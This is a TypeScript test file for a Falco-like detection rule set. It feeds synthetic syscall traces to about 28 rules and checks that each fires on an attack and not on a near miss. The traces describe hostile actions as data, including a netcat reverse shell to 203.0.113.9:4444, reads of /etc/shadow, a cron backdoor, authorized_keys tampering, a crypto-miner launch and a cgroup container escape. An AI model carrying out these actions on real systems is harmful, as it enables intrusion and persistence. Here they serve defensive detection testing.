import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { TraceEvent } from '../../src/trace/event.js';
import { PPM_EXE, PPM_O } from '../../src/trace/flags.js';
import { ROOT, tempDir, tsfalco } from '../helpers/cli.js';
import { alertsByRule, writeEvents } from '../helpers/replay.js';
import { FALCO_RULES, upstreamIt, upstreamPath } from '../helpers/upstream.js';

/**
 * Every rule of rules/tsfalco_rules.yaml meets a trace in which it must fire and a near miss in
 * which it must not. These traces are built from events (the engine sees them exactly as it sees
 * a capture's); test/rules-default/captured.test.ts replays real captures for the rules whose
 * scenarios can run harmlessly on a test machine.
 */

const RULES = join(ROOT, 'rules/tsfalco_rules.yaml');
const tmp = tempDir();
afterAll(tmp.cleanup);

type Ev = Partial<TraceEvent>;
const CID = 'abcdef012345';
const FULL_ID = CID + '0'.repeat(52);

function who(comm: string, pid: number, extra: Ev = {}): Ev {
  return { dir: '<', tid: pid, pid, ppid: 1, comm, uid: 1000, gid: 1000, euid: 1000, egid: 1000, loginuid: 1000, ...extra };
}

const root = (comm: string, pid: number, extra: Ev = {}) => who(comm, pid, { uid: 0, euid: 0, gid: 0, egid: 0, ...extra });

const SNAPSHOT: Ev[] = [
  { type: 'snapshot_machine', name: 'test-host' },
  { type: 'snapshot_container', container_id: CID, name: 'web', image: 'docker.io/library/nginx:1.25', privileged: true, mounts: [] },
  { type: 'snapshot_proc', ...root('systemd', 1, { ppid: 0, loginuid: -1 }), exe: '/sbin/init', exepath: '/usr/lib/systemd/systemd', args: [], cwd: '/' },
  { type: 'snapshot_proc', ...root('nginx', 80, { loginuid: -1 }), exe: 'nginx', exepath: '/usr/sbin/nginx', args: [], cwd: '/' },
  { type: 'snapshot_proc', ...who('bash', 100), exe: '-bash', exepath: '/usr/bin/bash', args: [], cwd: '/home/alice' },
  { type: 'snapshot_proc', ...root('containerd-shim', 690, { loginuid: -1 }), exe: 'containerd-shim', exepath: '/usr/bin/containerd-shim', args: [] },
  { type: 'snapshot_proc', ...root('nginx', 700, { ppid: 690, loginuid: -1 }), exe: 'nginx', exepath: '/usr/sbin/nginx', args: [], cgroup: `/docker/${FULL_ID}` },
  { type: 'snapshot_end' },
];

const exec = (comm: string, pid: number, exepath: string, args: string[], extra: Ev = {}): Ev => ({
  type: 'execve', ...who(comm, pid, { ppid: 100 }), res: 0n, exe: comm, exepath, args, cwd: '/home/alice', ...extra,
});
const open = (comm: string, pid: number, path: string, flags: number, extra: Ev = {}): Ev => ({
  type: 'openat', ...who(comm, pid), dirfd: -100n, path, flags, mode: 0o644, res: 3n, ...extra,
});
const connect = (comm: string, pid: number, dip: string, dport: number): Ev[] => [
  { type: 'socket', ...who(comm, pid), sock_family: 2, sock_type: 1, l4proto: 6, res: 5n },
  { type: 'connect', ...who(comm, pid), fd: 5n, res: 0n, sock_family: 2, l4proto: 6, sip: '10.0.0.5', sport: 40000, dip, dport },
];
/** A process inside the container: a child of the container's nginx (pid 700). */
const inCtr = (e: Ev): Ev => ({ ...e, ppid: 700, cgroup: `/docker/${FULL_ID}` });
const W = PPM_O.WRONLY | PPM_O.CREAT | PPM_O.TRUNC;

const CASES: { rule: string; fires: Ev[]; nearMiss: Ev[] }[] = [
  {
    rule: 'TSF Shell Spawned in a Container',
    fires: [inCtr(exec('bash', 701, '/bin/bash', []))],
    nearMiss: [exec('bash', 201, '/bin/bash', [])],
  },
  {
    rule: 'TSF Sensitive File Read by Untrusted Program',
    fires: [open('cat', 100, '/etc/shadow', PPM_O.RDONLY)],
    nearMiss: [open('sshd', 100, '/etc/shadow', PPM_O.RDONLY)],
  },
  {
    rule: 'TSF Write Below Binary Directory',
    fires: [open('curl', 100, '/usr/bin/kworkerd', W)],
    nearMiss: [open('dpkg', 100, '/usr/bin/kworkerd', W)],
  },
  {
    rule: 'TSF Write Below /etc',
    fires: [open('bash', 100, '/etc/ld.so.preload', W)],
    nearMiss: [open('vi', 100, '/etc/hosts', W)],
  },
  {
    rule: 'TSF Outbound Connection to Uncommon Port',
    fires: connect('python3', 100, '203.0.113.9', 4444),
    nearMiss: connect('python3', 100, '203.0.113.9', 443),
  },
  {
    rule: 'TSF Netcat Remote Code Execution',
    fires: [exec('nc', 202, '/usr/bin/nc.traditional', ['-e', '/bin/sh', '203.0.113.9', '4444'])],
    nearMiss: [exec('nc', 202, '/usr/bin/nc.traditional', ['-z', '-v', '203.0.113.9', '22'])],
  },
  {
    rule: 'TSF Standard Input Redirected from a Socket',
    fires: [...connect('bash', 203, '203.0.113.9', 4444), { type: 'dup2', ...who('bash', 203), fd: 5n, fd2: 0n, res: 0n }],
    // `echo hi >&3`: only stdout goes to the socket
    nearMiss: [...connect('bash', 203, '203.0.113.9', 4444), { type: 'dup2', ...who('bash', 203), fd: 5n, fd2: 1n, res: 1n }],
  },
  {
    rule: 'TSF Root Gained Through a Setuid Program',
    fires: [exec('exploit', 204, '/home/alice/exploit', [], { euid: 0, uid: 1000 })],
    nearMiss: [exec('sudo', 204, '/usr/bin/sudo', ['ls'], { euid: 0, uid: 1000 })],
  },
  {
    rule: 'TSF Setuid to Root by a Non-Root Process',
    // The credentials after the call, as a capture records them: root, in alice's login session.
    fires: [{ type: 'setuid', ...who('pwn', 205, { euid: 0 }), id: 0n, res: 0n }],
    // A root service (no login session) taking back the root it had dropped.
    nearMiss: [{ type: 'setuid', ...root('daemon', 205, { loginuid: -1 }), id: 0n, res: 0n }],
  },
  {
    rule: 'TSF Fileless Execution from Memory',
    fires: [exec('payload', 206, '/memfd:x (deleted)', [], { exe_flags: PPM_EXE.FROM_MEMFD })],
    nearMiss: [exec('payload', 206, '/usr/bin/payload', [], { exe_flags: 0 })],
  },
  {
    rule: 'TSF Memory File Created for Execution',
    fires: [{ type: 'memfd_create', ...who('dropper', 207), name: 'x', flags: 0, res: 3n }],
    nearMiss: [{ type: 'memfd_create', ...who('java', 207), name: 'x', flags: 0, res: 3n }],
  },
  {
    rule: 'TSF Ptrace Attach to Another Process', // op 11: PPM_PTRACE_ATTACH, Falco's numbering
    fires: [{ type: 'ptrace', ...who('inject', 208), op: 11n, id: 100n, res: 0n }],
    nearMiss: [{ type: 'ptrace', ...who('gdb', 208), op: 11n, id: 100n, res: 0n }],
  },
  {
    rule: 'TSF Kernel Module Loaded',
    fires: [{ type: 'finit_module', ...root('loader', 209), fd: 3n, res: 0n }],
    nearMiss: [{ type: 'finit_module', ...root('modprobe', 209), fd: 3n, res: 0n }],
  },
  {
    rule: 'TSF Log File Cleared or Removed',
    fires: [open('bash', 100, '/var/log/auth.log', PPM_O.WRONLY | PPM_O.TRUNC)],
    nearMiss: [open('logrotate', 100, '/var/log/auth.log', PPM_O.WRONLY | PPM_O.TRUNC)],
  },
  {
    rule: 'TSF Shell History Deleted or Truncated',
    fires: [{ type: 'unlinkat', ...who('rm', 210), dirfd: -100n, path: '/home/alice/.bash_history', flags: 0, res: 0n }],
    nearMiss: [{ type: 'unlinkat', ...who('rm', 210), dirfd: -100n, path: '/home/alice/notes.txt', flags: 0, res: 0n }],
  },
  {
    rule: 'TSF Credential Search',
    fires: [exec('grep', 211, '/usr/bin/grep', ['-ri', 'password', '/etc'])],
    nearMiss: [exec('grep', 211, '/usr/bin/grep', ['-ri', 'error', '/var/log'])],
  },
  {
    rule: 'TSF Crypto-Miner Pool Connection',
    fires: connect('kthreadd2', 212, '198.51.100.1', 3333),
    nearMiss: connect('kthreadd2', 212, '198.51.100.1', 443),
  },
  {
    rule: 'TSF Crypto-Miner Program Started',
    fires: [exec('xmrig', 213, '/tmp/xmrig', ['-o', 'pool.example:3333'])],
    nearMiss: [exec('xmllint', 213, '/usr/bin/xmllint', ['a.xml'])],
  },
  {
    rule: 'TSF Container Escape via cgroup release_agent',
    fires: [inCtr(open('sh', 702, '/sys/fs/cgroup/rdma/x/release_agent', PPM_O.WRONLY))],
    nearMiss: [inCtr(open('sh', 702, '/sys/fs/cgroup/rdma/x/release_agent', PPM_O.RDONLY))],
  },
  {
    rule: 'TSF Filesystem Mounted Inside a Container',
    fires: [{ type: 'mount', ...root('mount', 700, { ppid: 690, loginuid: -1 }), path: '/dev/sda1', path2: '/mnt', name: 'ext4', flags: 0, res: 0n }],
    nearMiss: [{ type: 'mount', ...root('mount', 214), path: '/dev/sda1', path2: '/mnt', name: 'ext4', flags: 0, res: 0n }],
  },
  {
    rule: 'TSF Setuid or Setgid Bit Set',
    fires: [{ type: 'fchmodat', ...root('chmod', 215), dirfd: -100n, path: '/tmp/sh', mode: 0o4755, res: 0n }],
    nearMiss: [{ type: 'fchmodat', ...root('chmod', 215), dirfd: -100n, path: '/tmp/sh', mode: 0o755, res: 0n }],
  },
  {
    rule: 'TSF Execution from /tmp or /dev/shm',
    fires: [exec('x', 216, '/tmp/.x/x', [])],
    nearMiss: [exec('ls', 216, '/usr/bin/ls', [])],
  },
  {
    rule: 'TSF Package Manager Run in a Container',
    fires: [inCtr(exec('apt-get', 704, '/usr/bin/apt-get', ['install', 'nmap']))],
    nearMiss: [exec('apt-get', 217, '/usr/bin/apt-get', ['install', 'nmap'])],
  },
  {
    rule: 'TSF SSH Authorized Keys Modified',
    fires: [open('bash', 100, '/root/.ssh/authorized_keys', PPM_O.WRONLY | PPM_O.APPEND)],
    nearMiss: [open('bash', 100, '/root/.ssh/authorized_keys', PPM_O.RDONLY)],
  },
  {
    rule: 'TSF User Database Modified',
    fires: [open('bash', 100, '/etc/passwd', PPM_O.WRONLY | PPM_O.APPEND)],
    nearMiss: [open('useradd', 100, '/etc/passwd', PPM_O.WRONLY | PPM_O.APPEND)],
  },
  {
    rule: 'TSF Cron Job Modified',
    fires: [open('bash', 100, '/etc/cron.d/backdoor', W)],
    nearMiss: [open('crontab', 100, '/var/spool/cron/crontabs/alice', W)],
  },
  {
    rule: 'TSF BPF Program Loaded by an Unexpected Process',
    fires: [{ type: 'bpf', ...root('rootkit', 218), op: 5n, res: 7n }],
    nearMiss: [{ type: 'bpf', ...root('bpftool', 218), op: 5n, res: 7n }],
  },
  {
    rule: 'TSF Shell Started by a Network Service',
    fires: [exec('sh', 219, '/bin/sh', ['-c', 'id'], { ppid: 80 })],
    nearMiss: [exec('sh', 219, '/bin/sh', ['-c', 'id'], { ppid: 100 })],
  },
];

describe('rules/tsfalco_rules.yaml', () => {
  it('loads with 0 errors and 0 warnings', () => {
    const alone = tsfalco(['rules', 'validate', RULES, '--json']);
    expect(alone.status).toBe(0);
    const [result] = JSON.parse(alone.stdout).falco_load_results;
    expect(result.errors).toEqual([]);
    expect(result.warnings).toEqual([]);
  });

  upstreamIt('loads after Falco\'s falco_rules.yaml', FALCO_RULES.slice(0, 1), () => {
    const both = tsfalco(['rules', 'validate', upstreamPath(FALCO_RULES[0]!), RULES]);
    expect(both.status).toBe(0);
  });

  it('has at least 25 rules and a test case for each', () => {
    const list = JSON.parse(tsfalco(['rules', 'list', '-r', RULES, '--json']).stdout) as { rules: { info: { name: string } }[] };
    const names = list.rules.map((r) => r.info.name);
    expect(names.length).toBeGreaterThanOrEqual(25);
    expect(new Set(CASES.map((c) => c.rule))).toEqual(new Set(names));
  });

  for (const c of CASES) {
    it(`${c.rule}: fires, and not on the near miss`, () => {
      const fires = alertsByRule(writeEvents(tmp.dir, [...SNAPSHOT, ...c.fires]), [RULES]);
      expect(fires.get(c.rule) ?? 0, `${c.rule} should fire`).toBeGreaterThan(0);
      const miss = alertsByRule(writeEvents(tmp.dir, [...SNAPSHOT, ...c.nearMiss]), [RULES]);
      expect(miss.get(c.rule) ?? 0, `${c.rule} should not fire on the near miss`).toBe(0);
    });
  }
});
